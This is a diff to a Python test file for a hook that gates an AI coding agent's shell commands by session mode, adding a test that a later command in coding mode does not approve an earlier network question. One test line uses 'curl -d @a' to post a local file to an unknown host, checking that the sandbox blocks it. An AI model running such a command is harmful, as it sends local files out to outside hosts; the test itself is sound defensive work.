@@ -63,9 +63,14 @@ class Shell:
     def begin(self, mode: Mode) -> None:
         opt_in(self.project, "standard")
         app = open_app(self.home)
-        conversation = Conversation("claude-code", "host-1")
-        began = begin_recorded(app, self.project, conversation)
-        gated_sessions.change_mode(app, began.session, mode, by="user", task="T")
+        began = begin_recorded(app, self.project, Conversation("claude-code", "host-1"))
+        app.close()
+        self.session = began.session
+        self.set_mode(mode)
+
+    def set_mode(self, mode: Mode) -> None:
+        app = open_app(self.home)
+        gated_sessions.change_mode(app, self.session, mode, by="user", task="T")
         app.close()
 
     @property
@@ -92,8 +97,8 @@ class Shell:
             check=False,
         )
 
-    def ask(self, command: str, **more: object) -> tuple[str, str]:
-        """What the installed hook answers before the command, and the rule."""
+    def ask(self, command: str, event: str = "pre-tool", **more: object) -> tuple[str, str]:
+        """What the installed hook answers about the command, and the rule."""
         payload = {
             "session_id": "host-1",
             "cwd": str(self.project),
@@ -109,7 +114,7 @@ class Shell:
         }
         os.utime(variables[SHELL_VARIABLE], (0, 0))  # before the client began
         done = subprocess.run(
-            [self.home / "launch", "hook", "claude-code", "pre-tool"],
+            [self.home / "launch", "hook", "claude-code", event],
             input=json.dumps(payload),
             env={"PATH": os.environ["PATH"], **variables},
             capture_output=True,
@@ -259,6 +264,18 @@ def test_a_remote_reader_reaches_public_hosts_after_one_question(
     assert shell.ask("curl -d @a http://unknown.invalid") == ("allow", ""), "it has no network"
     posted = shell.run("curl -s -d @a http://unknown.invalid", https_proxy=upstream)
     assert "no network" in posted.stderr
+
+
+@needs_sandbox
+def test_a_command_in_coding_does_not_agree_to_an_earlier_question(shell: Shell) -> None:
+    shell.begin("planning")
+    assert shell.ask("curl -s https://a.invalid") == ("ask", "network.asked"), "the user says no"
+
+    shell.set_mode("coding")
+    shell.ask("curl -s http://localhost", event="post-tool")
+    shell.set_mode("planning")
+
+    assert shell.ask("curl -s https://a.invalid") == ("ask", "network.asked")
 
 
 @needs_sandbox
